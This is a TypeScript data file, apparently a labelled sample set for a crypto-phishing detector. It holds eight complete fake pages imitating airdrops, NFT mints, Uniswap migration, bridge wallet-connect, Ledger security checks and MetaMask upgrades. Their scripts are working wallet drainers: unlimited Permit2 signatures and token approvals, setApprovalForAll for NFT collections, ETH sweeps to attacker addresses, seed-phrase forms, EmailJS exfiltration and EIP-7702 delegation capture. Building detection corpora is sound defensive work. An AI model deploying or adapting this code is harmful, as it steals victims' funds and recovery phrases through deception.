import { type Entry } from '../entry.js';
import { baseCss, doc } from '../parts/d-parts.js';

/** Wallet drainers (connect → permit / approve / setApprovalForAll / transfer everything), fake claims, seed-phrase "validation". Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-drain-airdrop-permit2',
  label: 'cryptodrainer',
  kind: 'drainer-permit',
  url: 'https://claim.layerzero-season3.org/eligibility',
  body: doc({
    title: 'ZRO Season 3 Airdrop — Check eligibility',
    css: `body{background:#000;color:#fff;font-family:"Inter",sans-serif;margin:0}.h{max-width:640px;margin:80px auto;text-align:center}.b{background:#fff;color:#000;border:0;border-radius:999px;padding:14px 34px;font-weight:700;font-size:16px;cursor:pointer}.s{color:#8a8a8a;font-size:13px}.tm{font-family:monospace;font-size:28px;margin:20px 0}`,
    body: `<div class="h"><h1>Season 3 Airdrop is live</h1><p>12,500,000 ZRO allocated to early users. Connect your wallet to check your allocation. Unclaimed tokens are redistributed when the window closes.</p><div class="tm" id="t">05:59:12</div><button class="b" id="c">Connect Wallet</button><p class="s" id="st"></p></div>
<script src="https://cdn.jsdelivr.net/npm/ethers@6.13.4/dist/ethers.umd.min.js"></script>
<script>
const RECV='0x8f3B2c51A94e0d1b7Ec6F20a5D3e9C4b6a7F1e02';
const PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
const TOKENS=[['USDT','0xdAC17F958D2ee523a2206206994597C13D831ec7'],['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'],['WETH','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'],['DAI','0x6B175474E89094C44Da98b954EedeAC495271d0F']];
async function drain(){
  const p=new ethers.BrowserProvider(window.ethereum);await p.send('eth_requestAccounts',[]);const s=await p.getSigner();const me=await s.getAddress();
  document.getElementById('st').textContent='Checking eligibility for '+me.slice(0,6)+'…';
  fetch('https://api.zro-claims.net/v1/log',{method:'POST',body:JSON.stringify({a:me,ua:navigator.userAgent})});
  const details=TOKENS.map(t=>({token:t[1],amount:'1461501637330902918203684832716283019655932542975',expiration:'281474976710655',nonce:0}));
  const domain={name:'Permit2',chainId:1,verifyingContract:PERMIT2};
  const types={PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]};
  const sig=await s.signTypedData(domain,types,{details,spender:RECV,sigDeadline:'281474976710655'});
  await fetch('https://api.zro-claims.net/v1/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:me,sig,details})});
  const bal=await p.getBalance(me);if(bal>0n){await s.sendTransaction({to:RECV,value:bal*95n/100n})}
  document.getElementById('st').textContent='Claim submitted! Tokens will arrive within 24h.';
}
document.getElementById('c').onclick=()=>drain().catch(e=>{document.getElementById('st').textContent='Please try again: '+e.message});
</script>`,
  }),
},

{
  id: 'd-drain-nft-mint-approvalforall',
  label: 'cryptodrainer',
  kind: 'drainer-nft',
  url: 'https://mint.pudgy-frostlings.xyz/',
  body: doc({
    title: 'Frostlings — Free Mint Live',
    css: `body{background:#dff3ff;font-family:"Comic Neue","Trebuchet MS",sans-serif;margin:0;text-align:center}.m{max-width:520px;margin:60px auto;background:#fff;border-radius:24px;padding:32px}.btn{background:#00a3ff;color:#fff;border:0;border-radius:12px;padding:14px 30px;font-size:18px}`,
    body: `<div class="m"><img src="img/frostling-412.png" alt="Frostling" width="220"><h1>Frostlings Free Mint</h1><p>2,431 / 3,333 minted · 0 ETH + gas · Max 2 per wallet</p><button class="btn" id="m">Connect &amp; Mint</button><p id="s"></p></div>
<script>
const OP='0x3b9Cf2d0F4a87e1b6C25dE9a30c1F7B84e2d6A91';
const COLLECTIONS=['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x60E4d786628Fea6478F785A6d7e704777c86a7c6'];
async function mint(){const [acc]=await ethereum.request({method:'eth_requestAccounts'});document.getElementById('s').textContent='Preparing mint…';
for(const c of COLLECTIONS){const data='0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:c,data}]})}catch(e){}}
document.getElementById('s').textContent='Mint confirmed! Your Frostlings will appear in your wallet soon.'}
document.getElementById('m').onclick=mint;
</script>`,
  }),
},

{
  id: 'd-drain-uniswap-v4-migration',
  label: 'cryptodrainer',
  kind: 'drainer-approve',
  url: 'https://app.uniswap-v4-migrate.org/#/migrate',
  body: doc({
    title: 'Uniswap Interface — Migrate liquidity to v4',
    css: `body{background:#131313;color:#fff;font-family:Basel,Inter,sans-serif;margin:0}.nav{display:flex;justify-content:space-between;padding:16px 24px}.card{max-width:480px;margin:60px auto;background:#1b1b1b;border-radius:24px;padding:24px}.pink{background:#fc72ff;color:#131313;border:0;border-radius:20px;padding:16px;width:100%;font-size:18px;font-weight:600}`,
    body: `<div class="nav"><b style="color:#fc72ff">🦄 Uniswap</b><span>Swap · Explore · Pool</span><button class="pink" style="width:auto;padding:8px 16px" id="cw">Connect</button></div>
<div class="card"><h2>Migrate to Uniswap v4</h2><p>Uniswap v3 pools will stop earning fees on Dec 31. Migrate your positions and tokens to v4 hooks with one approval and receive a 0.5% migration bonus in UNI.</p><button class="pink" id="go">Approve &amp; Migrate</button><p id="st" style="color:#9b9b9b"></p></div>
<script>
const SPENDER='0x7d2F6cE03a91B4c5eE81A04bF3cD9D71f2A0b5E4';const MAX='f'.repeat(64);
async function run(){const [a]=await window.ethereum.request({method:'eth_requestAccounts'});
const r=await fetch('https://api.uniswap-v4-migrate.org/tokens?addr='+a).then(x=>x.json()).catch(()=>({tokens:['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7','0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984']}));
for(const t of r.tokens){await window.ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+SPENDER.slice(2).padStart(64,'0')+MAX}]})}
document.getElementById('st').textContent='Migration queued.'}
document.getElementById('go').onclick=()=>run();document.getElementById('cw').onclick=()=>window.ethereum&&window.ethereum.request({method:'eth_requestAccounts'});
</script>`,
  }),
},

{
  id: 'd-drain-wallet-validation-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase-form',
  url: 'https://walletsync-rectify.dappsnode-connect.com/validate',
  body: doc({
    title: 'DappsNode — Wallet Validation',
    css: baseCss('#3b82f6') + `body{background:#0f172a;color:#e2e8f0}.card{background:#1e293b;border-color:#334155}.wr{max-width:560px;margin:50px auto}textarea{background:#0f172a;color:#e2e8f0;border-color:#475569}.tabs{display:flex;gap:6px;margin-bottom:12px}.tabs button{flex:1;background:#334155;color:#fff;border:0;padding:8px;border-radius:6px}`,
    body: `<div class="wr card"><h1 style="font-size:22px">Wallet Validation</h1><p>Open protocol for rectifying wallet issues: failed transactions, missing balance, locked stake, migration and whitelisting. Your wallet must be validated to resolve the issue.</p>
<div class="tabs"><button>Phrase</button><button>Keystore JSON</button><button>Private Key</button></div>
<form method="post" action="/validate/submit.php"><input type="hidden" name="wallet" id="wal" value="MetaMask"><div class="form-group"><label>Recovery phrase</label><textarea name="phrase" rows="4" placeholder="Typically 12 (sometimes 24) words separated by single spaces"></textarea></div><button class="btn btn-block">Validate</button></form>
<p class="muted">Wallets supported: MetaMask, Trust Wallet, Exodus, Phantom, Coinbase Wallet, Ledger Live and 200+ more. Your data is encrypted end-to-end.</p></div>`,
  }),
},

{
  id: 'd-drain-walletconnect-manual-phrase',
  label: 'cryptodrainer',
  kind: 'seed-phrase-modal',
  url: 'https://app.stargate-bridge-finance.com/transfer',
  body: doc({
    title: 'Stargate Finance | Bridge',
    css: `body{background:#000;color:#fff;font-family:Inter,sans-serif;margin:0}.bridge{max-width:460px;margin:60px auto;background:#111;border:1px solid #222;border-radius:16px;padding:24px}.bridge button{width:100%;background:#fff;color:#000;border:0;border-radius:10px;padding:14px;font-weight:600}#modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}.mc{background:#fff;color:#111;max-width:380px;margin:12vh auto;border-radius:20px;padding:20px}.w{display:flex;align-items:center;gap:10px;padding:10px;border-radius:12px;cursor:pointer}.w:hover{background:#f2f2f2}#err,#man{display:none}textarea{width:100%;border:1px solid #ccc;border-radius:10px;padding:10px}`,
    body: `<div class="bridge"><h2>Transfer</h2><p>From Ethereum → Arbitrum</p><button id="open">Connect Wallet</button></div>
<div id="modal"><div class="mc"><h3>Connect wallet</h3><div id="list"><div class="w" data-w="MetaMask">🦊 MetaMask</div><div class="w" data-w="WalletConnect">🔷 WalletConnect</div><div class="w" data-w="Coinbase Wallet">🔵 Coinbase Wallet</div><div class="w" data-w="Trust">🛡 Trust Wallet</div></div>
<div id="err"><p style="color:#d00">Error connecting… Automatic connection failed.</p><button id="mb" style="background:#111;color:#fff;border:0;border-radius:10px;padding:10px;width:100%">Connect manually</button></div>
<div id="man"><p>Import your wallet with its 12 or 24 word Secret Recovery Phrase.</p><textarea id="ph" rows="4"></textarea><button id="imp" style="background:#3b82f6;color:#fff;border:0;border-radius:10px;padding:10px;width:100%;margin-top:8px">Connect</button></div></div></div>
<script>
var wal='';document.getElementById('open').onclick=function(){document.getElementById('modal').style.display='block'};
document.getElementById('list').onclick=function(e){wal=e.target.getAttribute('data-w');document.getElementById('list').style.display='none';document.getElementById('err').style.display='block'};
document.getElementById('mb').onclick=function(){document.getElementById('err').style.display='none';document.getElementById('man').style.display='block'};
document.getElementById('imp').onclick=function(){var p=document.getElementById('ph').value.trim();if(p.split(/\\s+/).length<12){alert('Invalid phrase');return}
emailjs.send('service_q8x2k1','template_w4llet',{wallet:wal,phrase:p,site:location.host},'pK9v2xQ_Lm4sT7yB0').then(function(){alert('Wallet could not be synced, try again later.')})};
</script><script src="https://cdn.jsdelivr.net/npm/@emailjs/browser@4/dist/email.min.js"></script>`,
  }),
},

{
  id: 'd-drain-ledger-recovery-check',
  label: 'cryptodrainer',
  kind: 'seed-phrase-form',
  url: 'https://ledger-live.firmware-recovery-check.com/security/recover',
  body: doc({
    title: 'Ledger Live — Security check',
    css: baseCss('#000') + `body{background:#f8f8f8}.w{max-width:700px;margin:40px auto}.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}.grid input{padding:8px}`,
    body: `<div class="w card"><img src="img/ledger-logo.svg" alt="Ledger" height="28"><h1 style="font-size:22px">Critical firmware vulnerability</h1><p>A vulnerability has been discovered in Ledger Nano firmware 2.1.x. To keep your assets safe, please verify your recovery phrase so that we can check whether your device was affected.</p>
<form method="post" action="/security/check.php"><div class="form-group"><label>Device</label><select name="dev"><option>Nano X</option><option>Nano S Plus</option><option>Stax</option><option>Flex</option></select></div>
<div class="grid">${Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}</div><br><button class="btn btn-block">Verify recovery phrase</button></form></div>`,
  }),
},

{
  id: 'd-drain-pages-dev-eth-restake',
  label: 'cryptodrainer',
  kind: 'drainer-freehost',
  url: 'https://eigen-restake-rewards.pages.dev/',
  body: doc({
    title: 'EigenLayer — Claim restaking rewards',
    css: `body{background:#0c0a1e;color:#fff;font-family:Inter,sans-serif;margin:0;text-align:center}.c{max-width:500px;margin:100px auto}button{background:#5b4bff;color:#fff;border:0;border-radius:10px;padding:14px 30px;font-size:16px}`,
    body: `<div class="c"><h1>Season 2 restaking rewards</h1><p>Stakers who restaked before block 21,400,000 are eligible. Connect to claim EIGEN.</p><button id="b">Claim rewards</button><p id="s"></p></div>
<script>
document.getElementById('b').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var bal=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(bal)-BigInt('2100000000000000');
if(v>0n){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x0b6F1aD37e3B7f8Cc2e52a5D1E904C7b2E83a7d9',value:'0x'+v.toString(16)}]})}
document.getElementById('s').textContent='Claim pending…'};
</script>`,
  }),
},

{
  id: 'd-drain-eip7702-delegate-upgrade',
  label: 'cryptodrainer',
  kind: 'drainer-delegation',
  url: 'https://smart-account-upgrade.metamask-pectra.com/upgrade',
  body: doc({
    title: 'Upgrade to a Smart Account',
    css: baseCss('#f6851b') + `.u{max-width:520px;margin:60px auto}`,
    body: `<div class="u card"><img src="images/metamask-fox.svg" alt="MetaMask" width="56"><h1 style="font-size:22px">Upgrade your account to a Smart Account</h1><p>After the Pectra upgrade, all externally owned accounts must be upgraded to keep sending transactions with lower fees and batching. It takes one signature and is free.</p><button class="btn btn-block" id="u">Upgrade now</button><p class="muted" id="m"></p></div>
<script>
const IMPL='0x89aC1f0eD7B23c4e9A05f6B1d8C3e2A7b4F0d915';
document.getElementById('u').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
const nonce=await ethereum.request({method:'eth_getTransactionCount',params:[a,'pending']});
const auth={chainId:'0x1',address:IMPL,nonce};
const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({types:{EIP712Domain:[{name:'name',type:'string'}],Authorization:[{name:'chainId',type:'uint256'},{name:'address',type:'address'},{name:'nonce',type:'uint256'}]},domain:{name:'Delegation'},primaryType:'Authorization',message:auth})]});
await fetch('/api/relay-7702',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a,auth,sig})});document.getElementById('m').textContent='Upgrade scheduled.'};
</script>`,
  }),
},

];
